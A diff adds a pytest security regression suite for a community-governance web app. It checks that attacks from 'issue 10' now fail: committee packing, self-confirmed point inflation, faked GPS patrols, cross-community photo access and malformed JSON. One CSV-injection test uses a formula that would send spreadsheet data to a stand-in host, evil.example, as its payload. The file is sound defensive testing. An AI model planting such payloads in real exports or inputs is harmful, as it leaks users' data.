@@ -1,0 +1,174 @@
+"""Issue 10's attacks, run over HTTP against the app served the production way (gunicorn + PostgreSQL,
+CIVIC_CONFIG=production, demo data): the `served` fixture in tests/security/conftest.py. Each attack was
+seen working on the product before issue 10 and must fail now."""
+import csv
+import io
+import time as clock
+from datetime import datetime, timedelta, timezone
+
+import pytest
+from PIL import Image
+from sqlalchemy import select
+
+from tests.patrols.helpers import walk
+
+pytestmark = pytest.mark.postgres
+
+COMMITTEE, COMMITTEE2, COORDINATOR = "13800000001", "13800000002", "13800000003"
+RESIDENT, NEIGHBOUR, B_RESIDENT = "13800000005", "13800000006", "13800000015"
+
+
+def _user_id(served, phone):
+    from civic.accounts.models import User
+    from civic.extensions import db
+
+    return served.read(lambda: db.session.scalar(select(User.id).where(User.phone == phone)))
+
+
+def _jpeg():
+    out = io.BytesIO()
+    Image.new("RGB", (40, 30), (10, 120, 40)).save(out, "JPEG")
+    return out.getvalue()
+
+
+def test_committee_packing(served):
+    """One committee member confirms a fresh sign-up, tries to make the puppet committee and to remove a
+    colleague: the committee is unchanged (only the street's or district's administrator appoints)."""
+    from civic.communities.models import MemberRole
+    from civic.extensions import db
+
+    phone, password = served.sign_up("傀儡")
+    puppet = served.token(phone, password)
+    joined = served.client().post(f"/api/v1/communities/{served.a}/join", json={"address": "9号楼"}, headers=puppet)
+    assert joined.status_code == 201, joined.text
+    member = served.token(COMMITTEE)
+    approved = served.client().post(f"/api/v1/communities/{served.a}/requests/{joined.json()['id']}",
+                                    json={"approve": True}, headers=member)
+    assert approved.status_code == 200, approved.text
+    page = served.session(COMMITTEE)
+    members = f"/c/{served.a}/members"
+    page.submit(members, f"/c/{served.a}/roles",
+                {"user_id": str(_user_id(served, phone)), "role": "committee", "action": "grant"})
+    page.submit(members, f"/c/{served.a}/roles",
+                {"user_id": str(_user_id(served, COMMITTEE2)), "role": "committee", "action": "revoke"})
+    committee = served.read(lambda: set(db.session.scalars(select(MemberRole.user_id).where(
+        MemberRole.community_id == served.a, MemberRole.role == "committee"))))
+    assert committee == {_user_id(served, COMMITTEE), _user_id(served, COMMITTEE2)}
+
+
+def test_minting_by_raising_a_point_setting(served):
+    """Raising points_per_attendance to 1000 alone through the API is only a proposal; the proposer cannot
+    confirm it; the setting stays what it was."""
+    member = served.token(COMMITTEE)
+    url = f"/api/v1/deliberation/communities/{served.a}/settings"
+    before = served.client().get(url, headers=member).json()
+    raised = served.client().request("PUT", url, headers=member, json={
+        "support_threshold": before["support_threshold"], "points_per_attendance": 1000,
+        "veto_percent": before["veto_percent"], "evaluation_days": before["evaluation_days"]})
+    assert raised.status_code == 200, raised.text
+    assert raised.json()["points_per_attendance"] == before["points_per_attendance"] != 1000
+    changes = served.client().get(f"/api/v1/communities/{served.a}/rule-changes", headers=member).json()
+    waiting = [c for c in changes if c["field"] == "points_per_attendance" and c["status"] == "pending"]
+    assert [c["new_value"] for c in waiting] == [1000]
+    own = served.client().post(f"/api/v1/communities/{served.a}/rule-changes/{waiting[0]['id']}",
+                               json={"decision": "confirm"}, headers=member)
+    assert own.status_code == 403
+    assert served.client().get(url, headers=member).json()["points_per_attendance"] == before["points_per_attendance"]
+
+
+def test_gps_farming(served):
+    """A smooth two-hour walk with past timestamps uploaded to a patrol ended seconds later: every fix is
+    dropped, the patrol is flagged, approving it without a reason is refused, and no points are paid."""
+    volunteer, coordinator = served.token(NEIGHBOUR), served.token(COORDINATOR)
+    base = f"/api/v1/communities/{served.a}"
+    balance = served.client().get(f"{base}/points", headers=volunteer).json()
+    started = served.client().post(f"{base}/patrols", json={}, headers=volunteer)
+    assert started.status_code == 201, started.text
+    patrol = started.json()["id"]
+    fake = walk(clock.time() - 3 * 3600, seconds=7200, dt=2, speed=1.34, fake=True)
+    future = walk(clock.time() + 20 * 3600, seconds=600, dt=2, speed=1.34, prefix="f")
+    dropped = 0
+    for points in (fake[i:i + 500] for i in range(0, len(fake), 500)):
+        answer = served.client().post(f"{base}/patrols/{patrol}/points", json={"points": points}, headers=volunteer)
+        assert answer.status_code in (200, 201), answer.text
+        assert answer.json()["accepted"] == 0
+        dropped += answer.json()["dropped"]
+    answer = served.client().post(f"{base}/patrols/{patrol}/points", json={"points": future}, headers=volunteer)
+    assert answer.json()["accepted"] == 0
+    assert dropped == len(fake)
+    again = served.client().post(f"{base}/patrols", json={}, headers=volunteer)
+    assert again.json()["id"] == patrol, "a second, overlapping patrol was started"  # one open patrol
+    ended = served.client().post(f"{base}/patrols/{patrol}/end", headers=volunteer).json()
+    assert ended["distance_m"] == 0 and "suspicious" in ended["flags"], ended
+    refused = served.client().post(f"{base}/patrols/{patrol}/review", json={"approve": True}, headers=coordinator)
+    assert refused.status_code == 422 and refused.json()["reason"] == "reason_required", refused.text
+    assert served.client().get(f"{base}/points", headers=volunteer).json() == balance
+
+
+def test_csv_formula_export(served):
+    """A meeting titled =HYPERLINK(...) with minutes =1+2 and an item @SUM(...): the minutes CSV the committee
+    downloads holds them as text."""
+    member = served.token(COMMITTEE)
+    now = datetime.now(timezone.utc)
+    title, minutes, item = '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+2", "@SUM(A1:A9)"
+    meeting = served.client().post(f"/api/v1/deliberation/communities/{served.a}/meetings", headers=member, json={
+        "title": title, "place": "活动室", "starts_at": (now - timedelta(minutes=5)).isoformat(),
+        "ends_at": (now + timedelta(hours=1)).isoformat(), "quorum_count": 0, "quorum_percent": 0})
+    assert meeting.status_code == 201, meeting.text
+    mid = meeting.json()["id"]
+    base = f"/api/v1/deliberation/communities/{served.a}/meetings/{mid}"
+    assert served.client().post(f"{base}/items", json={"title": item}, headers=member).status_code == 201
+    assert served.client().post(f"{base}/minutes", json={"minutes": minutes}, headers=member).status_code in (200, 201)
+    download = served.session(COMMITTEE).get(f"/c/{served.a}/deliberation/meetings/{mid}/minutes.csv")
+    assert download.status_code == 200 and download.headers["Content-Type"].startswith("text/csv")
+    cells = [c for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig"))) for c in row]
+    for value in (title, minutes, item):
+        assert "'" + value in cells, (value, cells)
+    assert not [c for c in cells if c[:1] in set("=+-@\t\r")]
+
+
+def test_cross_community_photo_fetch(served):
+    """A photo a resident of A uploaded is served to A's members, and is a 404 for B's resident."""
+    upload = served.client().post(f"/api/v1/communities/{served.a}/merit/photos", headers=served.token(RESIDENT),
+                                  files={"photo": ("tree.jpg", _jpeg(), "image/jpeg")})
+    assert upload.status_code == 201, upload.text
+    url = upload.json()["url"]
+    assert served.session(NEIGHBOUR).get(url).status_code == 200
+    assert served.session(B_RESIDENT).get(url).status_code == 404
+    assert served.client().get(url).status_code in (302, 401)
+
+
+# --- hostile bytes: 4xx JSON, never a 500 ---------------------------------------------------------
+
+def _hostile_requests(served):
+    """(name, method, path, raw JSON body, headers) for item 7's hostile bytes."""
+    token = served.token(RESIDENT)
+    a = served.a
+    surrogate = b'"\\ud800"'
+    targets = [
+        ("claims", f"/api/v1/communities/{a}/merit/claims", b'{"rule_id": 1, "description": %s}'),
+        ("topics", f"/api/v1/deliberation/communities/{a}/topics", b'{"title": %s, "description": "x"}'),
+        ("reports", f"/api/v1/communities/{a}/reports", b'{"category_id": 1, "description": %s}'),
+        ("auth token", "/api/v1/auth/token", b'{"phone": %s, "password": "x"}'),
+    ]
+    cases = [(f"lone surrogate on {name}", path, body % surrogate) for name, path, body in targets]
+    cases += [
+        ("JSON nested 1000 deep", f"/api/v1/communities/{a}/merit/claims", b"[" * 1000 + b"]" * 1000),
+        ("5000-digit integer", f"/api/v1/communities/{a}/merit/claims",
+         b'{"rule_id": ' + b"9" * 5000 + b', "description": "abc"}'),
+    ]
+    return [(name, path, body, token) for name, path, body in cases]
+
+
+def _answers_4xx_json(served, name, path, body, token):
+    answer = served.client().post(path, data=body, headers={**token, "Content-Type": "application/json"})
+    return (400 <= answer.status_code < 500 and answer.headers.get("Content-Type", "").startswith("application/json"),
+            f"{name}: {answer.status_code} {answer.headers.get('Content-Type')}")
+
+
+def test_hostile_bytes_answer_4xx_json(served):
+    """Lone surrogates on claims, topics, reports and the token endpoint, JSON nested 1000 deep, and a
+    5000-digit integer each answer 4xx JSON, never a 500 (issue 10 item 7; the fixes are the `auth`
+    branch's: until it is merged this test fails, and that failure is the one the lead checks after merging)."""
+    failures = [why for ok, why in (_answers_4xx_json(served, *case) for case in _hostile_requests(served)) if not ok]
+    assert failures == []
